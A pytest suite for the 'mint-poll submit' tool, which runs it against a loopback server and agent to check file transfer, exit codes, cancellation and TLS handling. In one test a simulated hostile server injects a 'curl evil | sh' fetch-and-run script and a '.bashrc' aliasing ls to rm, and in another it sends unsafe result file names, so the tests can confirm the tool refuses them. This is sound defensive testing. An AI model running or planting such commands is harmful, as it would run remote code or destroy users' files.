"""`mint-poll submit` end to end: our rehearsal server on loopback, a real agent process polling it."""

from __future__ import annotations

import hashlib
import os
import signal
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mint_poll.api import STDERR_NAME, STDOUT_NAME, DistcompApi
from mint_poll.server import HOSTILE_RESULT_NAMES, Broker, DistcompServer, free_port
from tests.helpers import BIN, run_tool
from tests.poll.conftest import SITE, TOKEN
from tests.poll.submit_fixtures import (
    ALL_BYTES,
    JAPANESE_INPUT,
    JAPANESE_RESULT,
    ServeProcess,
    invoke,
    make_broker,
    running_agent,
    serve_process,
    server_table,
    submit_args,
    summary_of,
    wait_for,
    workflow_config,
)


@pytest.fixture
def broker() -> Broker:
    return make_broker()


@pytest.fixture
def agent(tmp_path: Path, server: DistcompServer) -> Iterator[None]:
    with running_agent(tmp_path, server.url):
        yield


@pytest.fixture
def config(tmp_path: Path, server: DistcompServer) -> Path:
    return workflow_config(tmp_path, server.url)


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """The module's working directory, with the inputs of copy.sh."""
    directory = tmp_path / "module"
    directory.mkdir()
    (directory / "input.txt").write_text("plain text input\n")
    (directory / "bin.dat").write_bytes(ALL_BYTES)
    (directory / JAPANESE_INPUT).write_text("こんにちは MInt\n", encoding="utf-8")
    return directory


COPY_INPUTS = ("input.txt", "bin.dat", JAPANESE_INPUT)
COPY_RESULTS = ("result.txt", "bin.out", JAPANESE_RESULT)


@pytest.mark.usefixtures("agent")
def test_text_binary_and_japanese_files_round_trip_exactly(
    config: Path, work: Path, server: DistcompServer
) -> None:
    result = invoke(
        config,
        *submit_args(
            "copy.sh",
            inputs=COPY_INPUTS,
            results=COPY_RESULTS,
            extra=["--parameters", "温度=300 K", "--out-dir", "out"],
        ),
        cwd=work,
    )
    assert result.exit_code == 0, result.stderr
    out = work / "out"
    assert (out / "result.txt").read_text() == "plain text input\n"
    assert (out / "bin.out").read_bytes() == ALL_BYTES
    assert (out / JAPANESE_RESULT).read_text(encoding="utf-8") == "こんにちは MInt\n"
    assert (out / STDOUT_NAME).read_text(encoding="utf-8") == "標準出力 温度=300 K\n"
    assert (out / STDERR_NAME).read_text(encoding="utf-8") == "標準エラー\n"
    summary = summary_of(result.stdout)
    assert summary["status"] == "completed" and summary["exit_status"] == 0
    files = {entry["name"]: entry for entry in summary["files"]}
    assert set(files) == {*COPY_RESULTS, STDOUT_NAME, STDERR_NAME}
    binary = files["bin.out"]
    assert binary["size"] == len(ALL_BYTES)
    assert binary["sha256"] == hashlib.sha256(ALL_BYTES).hexdigest()
    assert summary["missing"] == [] and summary["refused"] == []
    assert "got return" in result.stderr and summary["accept_id"] in result.stderr
    assert summary["accept_id"] not in server_table(server), "get-calc-result deletes the record"
    assert not list(out.rglob(".*.tmp")), "no temp files left behind"


@pytest.mark.usefixtures("agent")
def test_abnormal_run_exits_1_and_still_writes_the_logs_and_results(
    config: Path, work: Path
) -> None:
    result = invoke(config, *submit_args("fail.sh", results=["result.txt"]), cwd=work)
    assert result.exit_code == 1
    assert (work / STDERR_NAME).read_text() == "failing on purpose\n"
    assert (work / STDOUT_NAME).read_bytes() == b""
    assert (work / "result.txt").read_text() == "partial\n"
    assert summary_of(result.stdout)["status"] == "abnormal"
    assert "ended 'abnormal'" in result.stderr and STDERR_NAME in result.stderr


@pytest.mark.usefixtures("agent")
def test_a_failed_submit_goes_through_the_error_ladder_with_hint_and_traceback(
    config: Path, work: Path
) -> None:
    quiet = invoke(config, *submit_args("fail.sh"), cwd=work)
    assert quiet.exit_code == 1
    lines = quiet.stderr.splitlines()
    assert lines[-2].startswith("mint-poll: error: the remote run of 'fail.sh' ended 'abnormal'")
    # --out-dir defaults to the current directory: the file is named as the user will open it
    assert lines[-1] == f"mint-poll: hint: the command's own error output is {STDERR_NAME}"
    assert "Traceback" not in quiet.stderr
    verbose = invoke(config, "-v", *submit_args("fail.sh"), cwd=work)
    assert verbose.exit_code == 1
    assert "Traceback (most recent call last)" in verbose.stderr
    assert "mint_common.errors.JobFailed" in verbose.stderr
    assert f"mint-poll: hint: the command's own error output is {STDERR_NAME}" in verbose.stderr


@pytest.mark.usefixtures("agent")
def test_missing_result_file_is_listed_and_exits_1(config: Path, work: Path) -> None:
    result = invoke(config, *submit_args("partial.sh", results=["one.txt", "two.txt"]), cwd=work)
    assert result.exit_code == 1
    assert (work / "one.txt").read_text() == "one\n"
    assert not (work / "two.txt").exists()
    summary = summary_of(result.stdout)
    assert summary["status"] == "completed"
    assert [m["name"] for m in summary["missing"]] == ["two.txt"]
    assert "result file two.txt is missing" in result.stderr
    assert "requested result file(s) missing: two.txt" in result.stderr


def test_command_refused_by_the_server_exits_1_with_its_message(
    config: Path, work: Path, server: DistcompServer
) -> None:
    result = invoke(config, "-v", *submit_args("unknown.sh"), cwd=work)
    assert result.exit_code == 1
    assert "add-calcinfo" in result.stderr, "debug lines are on"
    assert TOKEN not in result.stderr + result.stdout
    assert "refused to register 'unknown.sh'" in result.stderr
    assert "コマンド unknown.sh はサイト nims-dev では実行できません" in result.stderr
    assert "HTTP 202, code 401" in result.stderr
    assert server_table(server) == {}


def test_missing_input_file_exits_66_before_anything_is_sent(
    config: Path, work: Path, server: DistcompServer
) -> None:
    result = invoke(config, *submit_args("copy.sh", inputs=["input.txt", "absent.dat"]), cwd=work)
    assert result.exit_code == 66
    assert "input file absent.dat does not exist" in result.stderr
    assert server_table(server) == {}


@pytest.mark.usefixtures("agent")
def test_timeout_force_cancels_the_registration_and_exits_75(
    config: Path, work: Path, server: DistcompServer
) -> None:
    result = invoke(config, *submit_args("sleep.sh", extra=["--timeout", "1.5"]), cwd=work)
    assert result.exit_code == 75, result.stderr
    summary = summary_of(result.stdout)
    assert summary["status"] == "timeout" and summary["cancelled"] is True
    assert summary["progress"] == "running", "the agent had picked it up"
    assert server.broker.progress_of(summary["accept_id"]) is None
    assert server_table(server) == {}
    assert "force-cancelled on the server" in result.stderr
    assert "mint-poll: hint: give a longer --timeout" in result.stderr


def test_sigterm_force_cancels_the_registration_then_exits(tmp_path: Path, work: Path) -> None:
    with serve_process() as server, running_agent(tmp_path, server.url):
        config = workflow_config(tmp_path, server.url)
        stdout, stderr, returncode = _submit_then_sigterm(config, work, server)
    assert returncode == 128 + signal.SIGTERM
    summary = summary_of(stdout)
    assert summary["status"] == "interrupted" and summary["cancelled"] is True
    error, hint = stderr.splitlines()[-2:]
    assert error == "mint-poll: error: interrupted by SIGTERM"
    assert hint.startswith(f"mint-poll: hint: calculation {summary['accept_id']} was at ")
    assert hint.endswith("the registration was force-cancelled on the server")


def _submit_then_sigterm(config: Path, work: Path, server: ServeProcess) -> tuple[str, str, int]:
    """Run submit as a process, SIGTERM it once the agent runs the job; check the server."""
    process = subprocess.Popen(
        [str(BIN / "mint-poll"), "--config", str(config), *submit_args("sleep.sh")],
        cwd=work,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        wait_for(
            lambda: any(r["calc_progress"] == "running" for r in server_table(server).values()),
            "the agent to start the calculation",
        )
        process.send_signal(signal.SIGTERM)
        stdout, stderr = process.communicate(timeout=20)
    finally:
        if process.poll() is None:
            process.kill()
    assert server_table(server) == {}, "the registration was cancelled on the server"
    return stdout, stderr, process.returncode


def test_hostile_result_names_are_refused_and_nothing_is_written_outside(
    tmp_path: Path, work: Path
) -> None:
    broker = make_broker(inject_result_files={name: b"pwned\n" for name in HOSTILE_RESULT_NAMES})
    with DistcompServer(broker, TOKEN) as hostile, running_agent(tmp_path, hostile.url):
        config = workflow_config(tmp_path, hostile.url)
        out = work / "deep" / "out"
        result = invoke(
            config,
            *submit_args("partial.sh", results=["one.txt"], extra=["--out-dir", str(out)]),
            cwd=work,
        )
    assert result.exit_code == 65
    assert (out / "one.txt").read_text() == "one\n"
    summary = summary_of(result.stdout)
    assert sorted(r["name"] for r in summary["refused"]) == sorted(HOSTILE_RESULT_NAMES)
    for place in (work / "deep" / "x", work / "x", tmp_path / "x"):
        assert not place.exists(), place
    assert not Path("/etc/x").exists()
    assert "refused unsafe result file name(s)" in result.stderr
    assert "mint-poll: hint: ask the site why its command writes such result file names" in (
        result.stderr
    )


def test_result_files_nobody_asked_for_are_named_and_not_written(
    tmp_path: Path, work: Path
) -> None:
    extra = {"module.sh": b"curl evil | sh\n", ".bashrc": b"alias ls=rm\n"}
    broker = make_broker(inject_result_files=extra)
    with DistcompServer(broker, TOKEN) as hostile, running_agent(tmp_path, hostile.url):
        config = workflow_config(tmp_path, hostile.url)
        out = work / "module"
        result = invoke(
            config,
            *submit_args("partial.sh", results=["one.txt"], extra=["--out-dir", str(out)]),
            cwd=work,
        )
    assert result.exit_code == 65
    assert (out / "one.txt").read_text() == "one\n"
    assert sorted(p.name for p in out.iterdir()) == sorted(["one.txt", STDOUT_NAME, STDERR_NAME])
    summary = summary_of(result.stdout)
    assert sorted(summary["unrequested"]) == [".bashrc", "module.sh"]
    assert summary["refused"] == []
    assert "nobody asked for: 'module.sh', '.bashrc'" in result.stderr


def test_legacy_positional_form_runs_the_same_flow(tmp_path: Path, work: Path) -> None:
    with serve_process() as server, running_agent(tmp_path, server.url):
        completed = run_tool(
            "mint-poll",
            "submit-legacy",
            "--poll-interval",
            "0.1",
            server.url,
            SITE,
            TOKEN,
            "copy.sh",
            ":".join(COPY_INPUTS),
            ":".join(COPY_RESULTS),
            "温度=300",
            "K",
            cwd=work,
            timeout=60,
        )
    assert completed.returncode == 0, completed.stderr
    assert (work / "bin.out").read_bytes() == ALL_BYTES
    assert (work / JAPANESE_RESULT).read_text(encoding="utf-8") == "こんにちは MInt\n"
    assert (work / STDOUT_NAME).read_text(encoding="utf-8") == "標準出力 温度=300 K\n"
    assert "visible" not in completed.stdout
    assert "process list" in completed.stderr
    assert TOKEN not in completed.stderr + completed.stdout


def test_legacy_form_skipping_a_missing_input_is_no_longer_silent(
    tmp_path: Path, work: Path, server: DistcompServer
) -> None:
    completed = run_tool(
        "mint-poll", "submit-legacy", server.url, SITE, TOKEN, "copy.sh", "gone.dat", "", cwd=work
    )
    assert completed.returncode == 66
    assert "gone.dat does not exist" in completed.stderr
    assert server_table(server) == {}


@pytest.mark.parametrize(
    ("settings", "status", "message"),
    [
        ({"token_file": None, "token": "f" * 64}, 77, "refused the API token"),
        ({"url": "unreachable"}, 69, "connection refused (after 2 attempts)\n"),
        ({"url": "ftp://x"}, 78, "is not an http(s) URL"),
        ({"surprise": 1}, 78, "unknown key 'surprise'"),
    ],
    ids=["wrong-token", "unreachable", "bad-url", "unknown-key"],
)
def test_exit_codes_for_auth_network_and_config_faults(
    tmp_path: Path,
    work: Path,
    server: DistcompServer,
    settings: dict[str, object],
    status: int,
    message: str,
) -> None:
    overrides = dict(settings)
    url = str(overrides.pop("url", server.url))
    if url == "unreachable":
        url = f"http://127.0.0.1:{free_port()}"
    config = workflow_config(tmp_path, url, **overrides)
    result = invoke(config, *submit_args("copy.sh", inputs=["input.txt"]), cwd=work)
    assert result.exit_code == status, result.stderr
    assert message in result.stderr
    assert "f" * 64 not in result.stderr


def test_unwritable_out_dir_stops_before_anything_is_sent(
    config: Path, work: Path, server: DistcompServer
) -> None:
    (work / "blocker").write_text("")
    result = invoke(config, *submit_args("copy.sh", extra=["--out-dir", "blocker/out"]), cwd=work)
    assert result.exit_code == 73
    assert server_table(server) == {}


def test_help_lists_both_commands() -> None:
    completed = run_tool("mint-poll", "--help", env={**os.environ, "COLUMNS": "120"})
    assert completed.returncode == 0
    assert "submit-legacy" in completed.stdout and "submit " in completed.stdout


def test_server_forgetting_the_calculation_mid_wait_exits_75(
    config: Path, work: Path, server: DistcompServer
) -> None:
    def restart_once_registered() -> None:
        wait_for(lambda: bool(server_table(server)), "the registration")
        server.broker.restart()

    restarter = threading.Thread(target=restart_once_registered)
    restarter.start()
    try:
        result = invoke(config, *submit_args("copy.sh"), cwd=work)
    finally:
        restarter.join(timeout=30)
    assert result.exit_code == 75, result.stderr
    assert "no longer knows calculation" in result.stderr
    assert "run the submission again" in result.stderr


def test_server_forgetting_the_calculation_before_it_is_allowed_exits_75(
    config: Path, work: Path, server: DistcompServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    allow = DistcompApi.allow_wait_calc

    def restart_then_allow(api: DistcompApi, accept_id: str) -> Any:
        server.broker.restart()
        return allow(api, accept_id)

    monkeypatch.setattr(DistcompApi, "allow_wait_calc", restart_then_allow)
    result = invoke(config, *submit_args("copy.sh"), cwd=work)
    assert result.exit_code == 75, result.stderr
    assert "no longer knows calculation" in result.stderr


@pytest.mark.usefixtures("agent")
def test_allow_repeated_after_a_lost_answer_goes_on_waiting(
    config: Path, work: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    allow = DistcompApi.allow_wait_calc

    def allow_twice(api: DistcompApi, accept_id: str) -> Any:
        allow(api, accept_id)  # got through, but as if its answer had been lost
        return allow(api, accept_id)  # HTTP 400 "already allowed"

    monkeypatch.setattr(DistcompApi, "allow_wait_calc", allow_twice)
    result = invoke(config, *submit_args("copy.sh"), cwd=work)
    assert result.exit_code == 0, result.stderr
    assert "is allowed already" in result.stderr


def test_https_with_the_site_ca_bundle_and_without_it(tmp_path: Path, work: Path) -> None:
    from tests.poll.certs import make_tls_files

    tls = make_tls_files(tmp_path)
    with DistcompServer(make_broker(), TOKEN, tls_cert=tls.cert, tls_key=tls.key) as secure:
        untrusted = invoke(workflow_config(tmp_path, secure.url), *submit_args("fail.sh"), cwd=work)
        with running_agent(tmp_path, secure.url, ca_bundle=str(tls.ca)):
            config = workflow_config(tmp_path, secure.url, ca_bundle=str(tls.ca))
            trusted = invoke(config, *submit_args("partial.sh", results=["one.txt"]), cwd=work)
        assert server_table(secure, ca=tls.ca) == {}
    assert untrusted.exit_code == 77
    assert "TLS handshake" in untrusted.stderr and "ca_bundle" in untrusted.stderr
    assert trusted.exit_code == 0, trusted.stderr
    assert (work / "one.txt").read_text() == "one\n"


def test_sigterm_during_a_retry_pause_exits_without_waiting_it_out(
    tmp_path: Path, work: Path, server: DistcompServer
) -> None:
    slow_retries = {"max_attempts": 5, "base_delay": 30, "jitter": False}
    config = workflow_config(tmp_path, server.url, retry=slow_retries)
    server.fail_next("calc-progress", count=5, status=503)
    log = tmp_path / "submit.err"
    with open(log, "w") as stderr_file:
        process = subprocess.Popen(
            [str(BIN / "mint-poll"), "--config", str(config), *submit_args("copy.sh")],
            cwd=work,
            stdout=subprocess.PIPE,
            stderr=stderr_file,
            text=True,
        )
        try:
            wait_for(lambda: "retrying in 30.0 s" in log.read_text(), "the first retry pause")
            process.send_signal(signal.SIGTERM)
            stdout, _ = process.communicate(timeout=10)
        finally:
            if process.poll() is None:
                process.kill()
    stderr = log.read_text()
    assert process.returncode == 128 + signal.SIGTERM, stderr
    assert "interrupted by SIGTERM" in stderr
    summary = summary_of(stdout)
    assert summary["status"] == "interrupted" and summary["cancelled"] is True
    assert server_table(server) == {}
